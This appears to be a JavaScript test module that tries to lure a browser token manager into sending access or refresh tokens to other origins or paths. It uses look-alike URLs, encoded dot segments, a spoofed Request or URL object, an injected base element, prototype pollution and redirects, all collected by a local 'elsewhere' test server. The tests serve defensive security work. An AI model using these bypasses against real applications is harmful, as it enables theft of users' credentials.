// Attackers who lure the token to another place: by URLs that look like the API's, redirects, markup, and changed or
// inherited options. The app's `apis` is `/api` of its own origin. `/outside` on the same server belongs to somebody
// else, and so does every other server.

import { ACCESS, REFRESH } from '../support/rows.mjs'

const APIS = ['/api']

/**
 * The tokens that arrived elsewhere: at other servers, and at other paths of the app's server than `/api`, `/auth` and
 * `/pixel`, to which the careless manager sends by itself.
 */
const got = ({ server, elsewhere }) => [
  elsewhere.loot(),
  server
    .seen()
    .filter(({ path }) => !/^\/(api|auth|pixel)(\/|$)/.test(path))
    .map(({ headers }) => [headers.authorization, headers['x-token']]),
]

/** A call to a URL that looks like the API's. `url` makes the URL from the scene. */
const alike = (name, url, more) =>
  target(
    name,
    async (scene, page) => {
      await page.evaluate((url) => auth.fetch(url).catch(() => {}), url(scene))
    },
    more,
  )

function target(name, act, /** @type {any} */ { options, ...more } = {}) {
  return {
    name,
    seeks: ACCESS,
    inherent: [],
    ...more,
    async mount(scene) {
      scene.server.routes['/outside'] = () => ({ body: 'outside' })
      const page = await scene.signedIn({ options: { apis: APIS, ...options } })
      await act(scene, page)
      return got(scene)
    },
  }
}

const CORS = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*, authorization, x-token' }

export default [
  alike(
    "Look-alike: the API's host with a suffix",
    ({ elsewhere }) => `http://127.0.0.1.localhost:${elsewhere.port}/api/x`,
  ),
  alike(
    "Look-alike: the API's host as the user information of another",
    ({ server, elsewhere }) => `${server.origin}@localhost:${elsewhere.port}/api/x`,
    { barred: 'no `fetch` takes a URL with user information' },
  ),
  alike("Look-alike: the API's host at another port", ({ elsewhere }) => `http://127.0.0.1:${elsewhere.port}/api/x`),
  alike(
    "Look-alike: the API's URL in the query of another",
    ({ server, elsewhere }) => `${elsewhere.origin}/?${server.origin}/api/x`,
  ),
  alike(
    "Look-alike: the API's URL in the fragment of another",
    ({ server, elsewhere }) => `${elsewhere.origin}/#${server.origin}/api/x`,
  ),
  alike('Look-alike: a scheme-relative URL', ({ elsewhere }) => `//localhost:${elsewhere.port}/api/x`),
  alike('Look-alike: backslashes instead of slashes', ({ elsewhere }) => `/\\localhost:${elsewhere.port}/api/x`),
  alike(
    'Look-alike: a tab and a newline between the slashes',
    ({ elsewhere }) => `/\t\n/localhost:${elsewhere.port}/api/x`,
  ),
  alike("Look-alike: a path that begins like the API's", () => '/apix/../apix'),
  alike("Look-alike: the API's path in capitals", () => '/API/x'),
  alike('Look-alike: dot segments that lead out of the API', () => '/api/../outside'),
  alike('Look-alike: encoded dot segments that lead out of the API', () => '/api/%2e%2e/outside'),
  alike("Look-alike: an encoded slash after the API's path", () => '/api%2F..%2Foutside'),
  target('A `Request` whose `url` property lies', (scene, page) =>
    page.evaluate(
      async ([far, api]) => {
        const request = new Request(far)
        Object.defineProperty(request, 'url', { value: api })
        await auth.fetch(request)
      },
      [`${scene.elsewhere.origin}/x`, `${scene.server.origin}/api/x`],
    ),
  ),
  target('An object as the URL, whose text changes between two reads', (scene, page) =>
    page.evaluate(
      async ([far, api]) => {
        let readings = 0
        await auth.fetch({ toString: () => (readings++ % 2 ? far : api) })
      },
      [`${scene.elsewhere.origin}/x`, `${scene.server.origin}/api/x`],
    ),
  ),
  target("`URL`, patched after: it claims that every URL is the API's", async (scene, page) =>
    page.evaluate(
      async ([far, api]) => {
        const { URL } = globalThis
        globalThis.URL = class extends URL {
          get href() {
            return api
          }

          get hostname() {
            return ''
          }
        }
        await auth.fetch(far).catch(() => {})
      },
      [`${scene.elsewhere.origin}/x`, `${scene.server.origin}/api/x`],
    ),
  ),
  {
    name: '`<base>` that points elsewhere: calls of the API',
    seeks: ACCESS,
    inherent: [],
    async mount(scene) {
      const page = await scene.signedIn({ options: { apis: APIS } })
      await rebase(scene, page)
      await page.evaluate(() => auth.fetch('/api/x').catch(() => {}))
      return got(scene)
    },
  },
  {
    name: '`<base>` that points elsewhere: the refresh, with a refresh token in memory',
    seeks: REFRESH,
    inherent: [],
    server: { isInMemory: true },
    async mount(scene) {
      const page = await scene.blank()
      await rebase(scene, page)
      await scene.tab({ page, options: { refreshToken: { json: 'refresh_token' } } })
      await page.evaluate((url) => auth.login(url, { method: 'POST' }), `${scene.server.origin}/auth/login`)
      await page.evaluate(() => auth.refresh().catch(() => {}))
      return got(scene)
    },
  },
  {
    name: '`apis` on `Object.prototype`',
    seeks: ACCESS,
    inherent: [],
    async mount(scene) {
      const page = await scene.tab({
        before: (apis) => void Object.assign(Object.prototype, { apis }),
        argument: [scene.elsewhere.origin],
      })
      await scene.signIn(page)
      await page.evaluate((url) => auth.fetch(url).catch(() => {}), `${scene.elsewhere.origin}/x`)
      return got(scene)
    },
  },
  {
    name: "The app's list of `apis`, extended after the manager was made",
    seeks: ACCESS,
    inherent: [],
    async mount(scene) {
      const page = await scene.blank()
      await page.evaluate(
        async ([module, options, far]) => {
          const { createTokenManager } = await import(module)
          const apis = ['/api']
          globalThis.auth = createTokenManager({ refresh: '/auth/refresh', apis, ...options })
          apis.push(far)
          await auth.ready
        },
        [scene.home.module, scene.home.options, scene.elsewhere.origin],
      )
      await scene.signIn(page)
      await page.evaluate((url) => auth.fetch(url).catch(() => {}), `${scene.elsewhere.origin}/x`)
      return got(scene)
    },
  },
  target(
    'The API redirects elsewhere, and the token is in a custom header',
    async (scene, page) => {
      scene.server.routes['/api/out'] = () => ({
        status: 302,
        headers: { ...CORS, location: `${scene.elsewhere.origin}/landed` },
      })
      await page.evaluate(() => auth.fetch('/api/out').catch(() => {}))
    },
    { options: { attach: { header: 'X-Token', scheme: '' } } },
  ),
  target(
    'The API redirects elsewhere, and the token is in `Authorization`',
    async (scene, page) => {
      scene.server.routes['/api/out'] = () => ({
        status: 302,
        headers: { ...CORS, location: `${scene.elsewhere.origin}/landed` },
      })
      await page.evaluate(() => auth.fetch('/api/out').catch(() => {}))
    },
    { barred: 'the platform drops `Authorization` at another origin' },
  ),
  target('The API redirects to another path on its server', async (scene, page) => {
    scene.server.routes['/api/out'] = () => ({ status: 302, headers: { location: '/outside' } })
    await page.evaluate(() => auth.fetch('/api/out').catch(() => {}))
  }),
  {
    name: 'The refresh endpoint redirects elsewhere, and the refresh token is in its body',
    seeks: REFRESH,
    inherent: [],
    server: { isInMemory: true },
    async mount(scene) {
      const page = await scene.signedIn({ options: { refreshToken: { json: 'refresh_token' } } })
      scene.server.routes['/auth/refresh'] = () => ({
        status: 307,
        headers: { ...CORS, location: `${scene.elsewhere.origin}/landed` },
      })
      await page.evaluate(() => auth.refresh().catch(() => {}))
      return got(scene)
    },
  },
]

function rebase({ elsewhere }, page) {
  return page.evaluate(
    (href) => document.head.append(Object.assign(document.createElement('base'), { href })),
    `${elsewhere.origin}/`,
  )
}
